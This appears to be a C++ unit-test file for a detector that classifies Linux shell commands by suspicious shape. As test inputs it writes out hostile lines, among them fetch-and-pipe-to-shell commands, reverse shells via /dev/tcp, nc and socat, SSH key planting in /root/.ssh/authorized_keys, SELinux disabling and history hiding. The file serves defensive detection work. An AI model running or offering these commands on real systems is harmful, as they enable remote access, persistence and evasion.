#include "base/text.hpp"
#include "traces/linux_script.hpp"
#include <gtest/gtest.h>

namespace konseki {

namespace {

std::string does(std::string_view command)
{
    return shape_names(look_at_shell(command).shapes);
}

std::vector<std::string> texts(std::string_view script)
{
    std::vector<std::string> found;
    for (auto const& command : shell_commands(script))
        found.emplace_back(command.text);
    return found;
}

using List = std::vector<std::string>;

}

TEST(LinuxScript, ShapesAreSeenWhateverStandsAroundThem)
{
    EXPECT_EQ(does("curl -fsSL https://x | bash"), "fetches pipes_to_interpreter");
    EXPECT_EQ(does("bash <(wget -qO- http://x)"), "fetches pipes_to_interpreter");
    EXPECT_EQ(does("sh -c \"$(curl -fsSL http://x)\""), "fetches pipes_to_interpreter");
    EXPECT_EQ(does("sudo -u root timeout 5 curl http://x"), "fetches");
    EXPECT_EQ(does("echo aGk= | base64 -d | sh"), "pipes_to_interpreter decodes");
    EXPECT_EQ(does("curl http://x | python3 -"), "fetches pipes_to_interpreter");
    EXPECT_EQ(does("dpkg -L a | perl -ne 's,x,y, or next; unlink $_'"), "runs_inline_code"); // its input is data
    EXPECT_EQ(does("curl http://x | python3 -m json.tool"), "fetches");
    EXPECT_EQ(
        does("curl http://x | perl -e 'eval join \"\", <STDIN>'"), "fetches pipes_to_interpreter runs_inline_code");
    EXPECT_EQ(does("[ \"$(head -c4 x)\" != \"$(printf '\\xfe\\xed\\xfe\\xed')\" ]"), "");
    EXPECT_EQ(does("printf '\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68\\x20'"), "decodes");
    EXPECT_EQ(does("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "opens_connection");
    EXPECT_EQ(does("nc -e /bin/sh 10.0.0.1 1"), "opens_connection");
    EXPECT_EQ(does("socat TCP:1.2.3.4:5 EXEC:/bin/sh"), "opens_connection");
    EXPECT_EQ(does("python3 -c 'import socket,subprocess'"), "opens_connection runs_inline_code");
    EXPECT_EQ(does("nohup /tmp/.x/y &"), "runs_from_temporary runs_hidden stays_behind");
    EXPECT_EQ(does("bash /dev/shm/a.sh"), "runs_from_temporary");
    EXPECT_EQ(does("export LD_PRELOAD=/lib/x.so"), "preloads");
    EXPECT_EQ(does("export HISTFILE=/dev/null"), "hides_history");
    EXPECT_EQ(does("chmod 4755 /bin/x"), "gives_rights");
    EXPECT_EQ(does("echo k >> /root/.ssh/authorized_keys"), "plants");
    EXPECT_EQ(does("setenforce 0"), "disarms");
}

TEST(LinuxScript, OnlyOptionsInFrontGiveTheInterpreterItsProgram)
{
    for (auto const* line : { "bash -s -- -c", "sh -s c", "python3 - -e", "python3 -E -", "python3 -sE",
             "perl -w - -e x", "ruby -ruri -", "php -d error=1", "node - --eval", "bash -x -- -c" })
        EXPECT_EQ(does(format("curl http://x | {}", line)), "fetches pipes_to_interpreter") << line;
    for (auto const* line : { "bash -c 'cat'", "bash -lc cat", "python3 -Sm json.tool", "perl -0777 -pe s,a,b,",
             "node --print 1", "php -r 1", "perl -Mutf8 -ne print" }) {
        auto const shapes = does(format("curl http://x | {}", line));
        EXPECT_EQ(shapes.find("pipes_to_interpreter"), std::string::npos) << line;
    }
}

TEST(LinuxScript, PaddingHidesNothing)
{
    auto const padded = "echo " + std::string(40'000, 'x') + "; curl http://x | sh";
    EXPECT_EQ(does(padded), "fetches pipes_to_interpreter");
    EXPECT_EQ(look_at_shell(padded).programs.back(), "sh");
}

TEST(LinuxScript, UsualLinesHaveNoShape)
{
    for (auto const* line :
        { "apt-get install curl", "echo 'use curl | bash'", "command -v wget >/dev/null 2>&1",
            "test -x /usr/bin/dpkg || exit 0", ". \"$HOME/.cargo/env\"", "PATH=$PATH:$HOME/.local/bin", "chmod 0755 /x",
            "exec ./run", "grep x /etc/passwd > /tmp/out", "cat /etc/sudoers", "DIR=\"/tmp/$1\"", "A='curl x | sh'" })
        EXPECT_EQ(does(line), "") << line;
}

TEST(LinuxScript, CommandsAreToldApart)
{
    EXPECT_EQ(texts("a b; c && d || e\n# no\nf | g &\n"), (List { "a b", "c", "d", "e", "f | g &" }));
    EXPECT_EQ(texts("if [ -x /a ]; then\n  b \"x;y\" 'z\n&'\nfi\n"), (List { "b \"x;y\" 'z\n&'" }));
    EXPECT_EQ(texts("case \"$1\" in\n start|go)\n  run it\n ;;\n *) usage; exit 1;;\nesac\nlast\n"),
        (List { "run it", "usage", "exit 1", "last" }));
    EXPECT_EQ(texts("cat <<'EOF' | sh\nrm x; y\nEOF\nnext"), (List { "cat <<'EOF' | sh\nrm x; y\nEOF", "next" }));
    EXPECT_EQ(texts("a 2>&1 &>x\n(b; c)\nx=$(d; e) f\n"), (List { "a 2>&1 &>x", "b", "c", "x=$(d; e) f" }));
    EXPECT_EQ(texts("a \\\n  b\nc"), (List { "a \\\n  b", "c" }));
}

TEST(LinuxScript, FunctionsAliasesAndAssignmentsAreKnown)
{
    auto const commands = shell_commands("alias sudo='x'\nA=1\nsu() {\n  b\n}\nfunction ssh { c; }\nD=1 e\n");
    ASSERT_EQ(commands.size(), 7U);
    EXPECT_EQ(commands[0].part, ShellPart::alias);
    EXPECT_EQ(commands[1].part, ShellPart::assignment);
    EXPECT_EQ(commands[2].part, ShellPart::function);
    EXPECT_EQ(commands[2].text, "su");
    EXPECT_EQ(commands[3].text, "b");
    EXPECT_EQ(commands[3].depth, 1U);
    EXPECT_EQ(commands[3].place.line, 4U);
    EXPECT_EQ(commands[4].text, "ssh");
    EXPECT_EQ(commands[6].part, ShellPart::command);
    EXPECT_EQ(commands[6].place.line, 7U);
}

TEST(LinuxScript, AnUnclosedQuoteLosesNothing)
{
    EXPECT_EQ(texts("a\necho 'open\nb; c"), (List { "a", "echo 'open\nb; c" }));
    EXPECT_EQ(texts("$("), (List { "$(" }));
    EXPECT_EQ(texts("\\"), (List { "\\" }));
}

TEST(LinuxScript, InterpretersAndProgramsThatLetOut)
{
    EXPECT_EQ(interpreter_of(as_bytes("#! /bin/sh -e\nx")), "/bin/sh -e");
    EXPECT_EQ(interpreter_of(as_bytes("\x7f"
                                      "ELF\x02")),
        "ELF");
    EXPECT_TRUE(can_break_out("vim"));
    EXPECT_FALSE(can_break_out("ls"));
}

}
